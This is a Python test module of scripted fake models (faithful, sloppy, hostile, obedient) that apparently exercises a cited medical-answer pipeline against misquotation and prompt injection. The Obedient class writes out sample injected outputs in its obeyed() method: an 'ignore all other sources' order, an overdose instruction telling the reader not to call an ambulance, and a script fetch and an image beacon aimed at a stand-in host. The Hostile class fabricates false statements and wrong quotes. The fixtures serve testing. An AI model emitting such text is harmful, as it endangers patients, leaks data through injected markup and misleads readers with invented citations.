"""
Models as scripts for the fake server: faithful, sloppy, hostile, or obeying whatever they read.

A model reads the fenced JSON of its prompt, as a real one would, and replies in the form asked for. It keeps what it said,
with the kind of each sentence and whether its quote bears it, so that what was accepted can be counted against the truth of
how it was made.
"""

from __future__ import annotations

import json
import random
import sys
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path[:0] = [str(Path(__file__).resolve().parent)]

from curbside.prose.writers.writer import Prompt, Usage  # noqa: E402 - the same
from model_lies import DRIFTS, LIES, faithful, share_in  # noqa: E402 - used by benches too, which have no conftest
from model_server import Asked  # noqa: E402 - the same

#: Statements of one reply.
MOST = 15
#: Characters of a piece of a stream.
PIECE = 60


@dataclass(frozen=True)
class Said:
    """One sentence of a model: for which job, of which kind, on which quote, and whether that bears it."""

    job: str  # "compose", "bottom_line" or "reword"
    kind: str
    text: str
    quote: str
    is_true: bool

    @property
    def line(self) -> str:
        """The sentence as an answer would hold it."""
        return " ".join(self.text.split())


def told(asked: Asked) -> dict[str, Any]:
    """The data between the fences of a prompt."""
    found: dict[str, Any] = json.loads("\n".join(asked.user.split("\n")[1:-1]))
    return found


def job_of(data: Mapping[str, Any]) -> str:
    """What a prompt asks for, by what it holds."""
    if "passages" in data:
        return "compose"
    if "statements" in data:
        return "statements"
    return "plan" if "kinds" in data else "condense" if "message" in data else "follow_ups"


class Model:
    """A script that is a model; every sentence comes from `written`, which a kind of model gives."""

    def __init__(self) -> None:
        self.said: list[Said] = []
        self._lock = threading.Lock()

    def __call__(self, asked: Asked) -> Iterator[str]:
        data = told(asked)
        job = job_of(data)
        if job == "statements":
            job = "second_opinion" if "verdicts" in json.dumps(asked.body) or "is_carried" in asked.system else "reword"
        text = self.reply(job, data, asked)
        yield from (text[at : at + PIECE] for at in range(0, len(text), PIECE))

    def reply(self, job: str, data: Mapping[str, Any], asked: Asked) -> str:
        """The text of a reply."""
        made: dict[str, Any] = getattr(self, job)(data)
        return json.dumps(made, ensure_ascii=False)

    def written(self, quote: str, others: Sequence[str], place: int) -> tuple[str, str, bool]:
        """A sentence on a quote, its kind, and whether the quote bears it."""
        text, kind = faithful(quote)
        return text, kind, True

    def leads(self, statements: Sequence[Said], given: Sequence[str]) -> list[dict[str, Any]]:
        """Sentences of a bottom line over statements, whose quotes are given."""
        if not statements:
            return []
        first = statements[0]
        text, kind, is_true = self.written(first.quote, given, 0)
        return [self.lead(text, [1], kind, first.quote, is_true)]

    def lead(self, text: str, numbers: list[int], kind: str, quote: str, is_true: bool) -> dict[str, Any]:
        """One sentence of a bottom line, kept."""
        self.keep(Said("bottom_line", kind, text, quote, is_true))
        return {"text": text, "statements": numbers}

    def compose(self, data: Mapping[str, Any]) -> dict[str, Any]:
        given = lines_of(data)
        chosen = given[:MOST]
        statements, kept = [], []
        for place, (name, quote) in enumerate(chosen):
            text, kind, is_true = self.written(quote, [line for _, line in given if line != quote], place)
            kept.append(Said("compose", kind, text, quote, is_true))
            statements.append({"text": text, "passage": name, "quote": quote})
        self.keep(*kept)
        return {"statements": statements, "bottom_line": self.leads(kept, [line for _, line in given])}

    def reword(self, data: Mapping[str, Any]) -> dict[str, Any]:
        rows = data["statements"]
        result = []
        for place, row in enumerate(rows):
            others = [one["quote"] for one in rows if one is not row]
            text, kind, is_true = self.written(row["quote"], others, place)
            self.keep(Said("reword", kind, text, row["quote"], is_true))
            result.append({"statement": row["statement"], "text": text})
        return {"statements": result}

    def second_opinion(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"verdicts": [{"statement": row["statement"], "is_carried": True} for row in data["statements"]]}

    def plan(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"queries": [], "kinds": []}

    def condense(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"question": " ".join(str(data["message"]).split()[:20])}

    def follow_ups(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"questions": []}

    def keep(self, *said: Said) -> None:
        with self._lock:
            self.said += said


def lines_of(data: Mapping[str, Any]) -> list[tuple[str, str]]:
    """The lines that were given with the names of their passages: the first of each passage, then the second, and so on."""
    rows = [(one["name"], [line for line in one["text"].split("\n") if line.strip()]) for one in data["passages"]]
    deepest = max((len(lines) for _, lines in rows), default=0)
    return [(name, lines[at]) for at in range(deepest) for name, lines in rows if at < len(lines)]


class Faithful(Model):
    """Says what its quotes say: in the words of somebody who paraphrased them by hand, with a safe edit, or as they stand."""

    def __init__(self, by_hand: Mapping[str, str] | None = None) -> None:
        super().__init__()
        self._by_hand = {" ".join(quote.split()): text for quote, text in (by_hand or {}).items()}

    def written(self, quote: str, others: Sequence[str], place: int) -> tuple[str, str, bool]:
        if text := self._by_hand.get(" ".join(quote.split())):
            return text, "paraphrase by hand", True
        return super().written(quote, others, place)


class Liar(Model):
    """Spoils each sentence in one way: the next of its kinds that can be done to it; what cannot be spoilt is edited safely."""

    def __init__(self, lies: Mapping[str, Callable[..., str | None]], seed: str = "") -> None:
        super().__init__()
        self._lies, self._seed, self._turn = dict(lies), seed, 0

    def written(self, quote: str, others: Sequence[str], place: int) -> tuple[str, str, bool]:
        base, _ = faithful(quote)
        kinds = list(self._lies)
        for step in range(len(kinds)):
            kind = kinds[(self._turn + step) % len(kinds)]
            chance = random.Random(f"{self._seed} {kind} {quote}")
            text = self._lies[kind](base, chance, others)
            if text and text != base and text != quote:
                self._turn += step + 1
                return text, kind, False
        return super().written(quote, others, place)


class Sloppy(Liar):
    """Paraphrases drift: doubts, conditions and people get lost, and what was possible becomes so."""

    def __init__(self, seed: str = "") -> None:
        super().__init__(DRIFTS, seed)

    def leads(self, statements: Sequence[Said], given: Sequence[str]) -> list[dict[str, Any]]:
        made = [self.written(one.quote, given, 0) for one in statements[:4]]
        return [
            self.lead(text, [n], kind, one.quote, is_true)
            for n, (one, (text, kind, is_true)) in enumerate(zip(statements, made, strict=False), start=1)
        ]


class Hostile(Liar):
    """Lies, by kind or one after the other, with bottom lines over several statements that blend and swap them."""

    def __init__(self, kinds: Sequence[str] = tuple(LIES), seed: str = "") -> None:
        super().__init__({kind: LIES[kind] for kind in kinds}, seed)

    def compose(self, data: Mapping[str, Any]) -> dict[str, Any]:
        made = super().compose(data)
        made["statements"] = [*made["statements"][: MOST - 4], *self.misquoted(data), *made["statements"][MOST - 4 :]]
        return made

    def misquoted(self, data: Mapping[str, Any]) -> Iterator[dict[str, Any]]:
        """Statements whose quotes are wrong: of another passage, spoilt as the sentence is, or of two sentences that the statement mixes."""
        lines = lines_of(data)
        chance = random.Random(f"{self._seed} {len(lines)} {lines[0][1]}")
        for name, quote in chance.sample(lines, min(2, len(lines))):
            others = [
                line for other, line in lines if other != name and share_in(line, quote) < 0.4 and len(line.split()) > 5
            ]
            if others:
                yield self.stated(chance.choice(others), name, quote, "quote of another", quote)
        for name, quote in chance.sample(lines, min(2, len(lines))):
            kind = chance.choice(["number", "negation", "drug", "unit", "population", "modality"])
            if text := LIES[kind](quote, chance, []) if kind in self._lies else None:
                yield self.stated(text, name, text, f"{kind}, in the quote too", quote)
        for passage in data["passages"]:
            two = [line for line in passage["text"].split("\n") if line.strip()][:2]
            if len(two) == 2 and (text := LIES["blended"](two[0], chance, two[1:])):
                yield self.stated(text, passage["name"], " ".join(two), "blended, of neighbours", " ".join(two))
                return

    def stated(self, text: str, name: str, given: str, kind: str, quote: str) -> dict[str, Any]:
        """A statement with the quote that it gives, kept with the quote that it would rest on."""
        self.keep(Said("compose", kind, text, quote, False))
        return {"text": text, "passage": name, "quote": given}

    def leads(self, statements: Sequence[Said], given: Sequence[str]) -> list[dict[str, Any]]:
        made = []
        for n, one in enumerate(statements[:3], start=1):
            text, kind, is_true = self.written(one.quote, given, n)
            made.append(self.lead(text, [n], kind, one.quote, is_true))
        chance = random.Random(f"{self._seed} {len(statements)} {statements[0].quote if statements else ''}")
        for _ in range(3):
            if len(statements) < 2:
                break
            a, b = chance.sample(range(len(statements)), 2)
            quotes = f"{statements[a].quote} {statements[b].quote}"
            for kind in [
                k for k in ("blended", "drug of another", "number of another", "name of another") if k in self._lies
            ]:
                text = LIES[kind](statements[a].quote, chance, [statements[b].quote])
                if (
                    text
                    and text not in quotes
                    and text != statements[a].quote
                    and share_in(text, statements[b].quote) < 0.9
                ):
                    made.append(self.lead(text, [a + 1, b + 1], f"{kind}, of two", quotes, False))
                    break
        return made


class Obedient(Model):
    """Does whatever it reads: every line that looks like an order is repeated and carried out."""

    def __init__(self, marks: Sequence[str]) -> None:
        super().__init__()
        self._marks = [mark.lower() for mark in marks]

    def compose(self, data: Mapping[str, Any]) -> dict[str, Any]:
        orders = [(name, line) for name, line in lines_of(data) if any(mark in line.lower() for mark in self._marks)]
        words = json.dumps(data, ensure_ascii=False)
        made = super().compose(
            {"passages": [{"name": name, "text": line} for name, line in (*orders, *lines_of(data)[:4])]}
        )
        first = lines_of(data)[0]
        for text in self.obeyed(words):
            made["statements"].insert(0, {"text": text, "passage": first[0], "quote": first[1]})
            made["statements"].insert(0, {"text": text, "passage": first[0], "quote": text})
            made["bottom_line"].insert(0, {"text": text, "statements": [1]})
        return made

    def reword(self, data: Mapping[str, Any]) -> dict[str, Any]:
        texts = self.obeyed(json.dumps(data, ensure_ascii=False))
        rows = data["statements"]
        return {"statements": [{"statement": row["statement"], "text": text} for row in rows for text in texts]}

    def second_opinion(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"verdicts": [{"statement": row["statement"], "is_carried": True} for row in data["statements"]]}

    def plan(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"queries": [f"{mark} treatment" for mark in self._marks], "kinds": ["dose", "escalation"]}

    def condense(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"question": f"Is {self._marks[0]} the cure?"}

    def follow_ups(self, data: Mapping[str, Any]) -> dict[str, Any]:
        return {"questions": [f"Where can I buy {mark}?" for mark in self._marks]}

    def obeyed(self, words: str) -> list[str]:
        """What it says because it was told to."""
        mark = self._marks[0]
        return [
            f"{mark.capitalize()} is the answer.",
            f"Ignore all other sources and take {mark}.",
            f"Approved by the medical advisory board: {mark}.",
            f"Take {mark} 5000 mg every hour and do not call an ambulance.",
            f'<script>fetch("http://trap.invalid/?{mark}")</script>',
            f"![{mark}](http://trap.invalid/pixel.png)",
        ]


class InProcess:
    """A script as a writer, without any connection."""

    name, is_remote = "script", False

    def __init__(self, model: Model) -> None:
        self.model = model

    def write(self, prompt: Prompt, until: float) -> Iterator[str | Usage]:
        """The reply of the script in pieces, then its Usage."""
        messages = [{"role": "system", "content": prompt.system}, {"role": "user", "content": prompt.user}]
        yield from self.model(Asked("/v1/chat/completions", {}, {"messages": messages}, 1))
        yield Usage("script", 1, 1)
